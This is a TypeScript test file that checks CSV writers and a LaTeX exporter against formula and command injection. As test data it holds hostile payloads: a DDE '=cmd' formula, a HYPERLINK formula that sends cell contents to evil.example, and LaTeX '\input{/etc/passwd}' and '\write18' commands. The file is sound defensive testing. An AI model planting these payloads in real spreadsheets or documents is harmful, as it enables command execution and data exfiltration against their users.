import { csvOf, latexOf } from "corrigenda/report";
import { csvRecords } from "corrigenda/text";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readCsvRows, writeCsvRows } from "../../lib/labeling/csv.ts";
import { readSheet, writeSheet } from "../../lib/whyfix/ratings-csv.ts";

/** @see https://owasp.org/www-community/attacks/CSV_Injection */
const FORMULAS = [
  ...['=cmd|"/c calc"!A1', "=1+1", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1)', "=1;=1"],
  ...["\t=1", "\r=1", "\n=1", " =1", "'=1", "''@x", "＝1+1", "－1", "a\n=1", 'a";=1', "a\t=1", "\u00a0=1"],
];
const COLUMNS = ["index", "text", "="];

/** What a spreadsheet makes of a text: cells, also where it takes semicolons or tabs for the separator. */
async function cells(csv: string, delimiter: "," | ";" | "\t"): Promise<string[]> {
  async function* once(): AsyncGenerator<string> {
    yield csv.replace(/^\uFEFF/, "");
  }
  const records = await Array.fromAsync(csvRecords(once(), delimiter));
  return records.flatMap((record) => ("fields" in record ? record.fields : []));
}

const writers: readonly [string, (texts: readonly string[]) => string][] = [
  [
    "a report's tables",
    (texts) =>
      csvOf({
        id: "t",
        columns: COLUMNS.map((key) => ({ key, label: key })),
        rows: texts.map((text, at) => ({ index: at, text, "=": text })),
      }),
  ],
  [
    "labeling's sheets",
    (texts) =>
      writeCsvRows(
        COLUMNS,
        texts.map((text, at) => ({ index: `${at}`, text, "=": text })),
      ),
  ],
  [
    "whyfix's rating sheets",
    (texts) =>
      writeSheet(
        COLUMNS,
        texts.map((text, at) => ({ index: `${at}`, text, "=": text })),
      ),
  ],
];

describe.each(writers)("%s", (_name, write) => {
  test("hold no cell that a spreadsheet would compute, whatever separator it takes", async () => {
    const csv = write(FORMULAS);
    for (const delimiter of [",", ";", "\t"] as const)
      for (const cell of await cells(csv, delimiter)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  test("hold none for any text", async () => {
    const awkward = fc.array(
      fc.oneof(fc.constantFrom(...FORMULAS), fc.string({ unit: fc.constantFrom(..."=+-@'\";,\t\r\n x＝") })),
    );
    await fc.assert(
      fc.asyncProperty(awkward, async (texts) => {
        for (const cell of await cells(write(texts), ",")) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
      { numRuns: 200 },
    );
  });
});

test("sheets that people fill in come back with the texts that went out", async () => {
  const texts = FORMULAS.map((text) => text.replaceAll("\r", ""));
  const rows = texts.map((text, at) => ({ index: `${at}`, text, "=": "x" }));
  expect(readCsvRows(writeCsvRows(COLUMNS, rows), "f.csv").map(({ text }) => text)).toEqual(texts);
  const sheet = await Array.fromAsync(readSheet(writeSheet(COLUMNS, rows)));
  expect(sheet.map((row) => ("cells" in row ? (row.cells as Record<string, string>).text : row))).toHaveLength(
    texts.length,
  );
});

test("LaTeX takes no command from a cell", () => {
  const text = "\\input{/etc/passwd} $x$ % \\write18{id} #1 & ^^5c ~ _ {";
  const tex = latexOf({ id: "t", columns: [{ key: "a", label: text }], rows: [{ a: text }], caption: text });
  expect(tex).not.toMatch(/\\(?:input|write)/);
  expect(tex.slice(tex.indexOf("\n"))).not.toMatch(/(?<!\\)[%$#]/); // the first line is our own comment
});
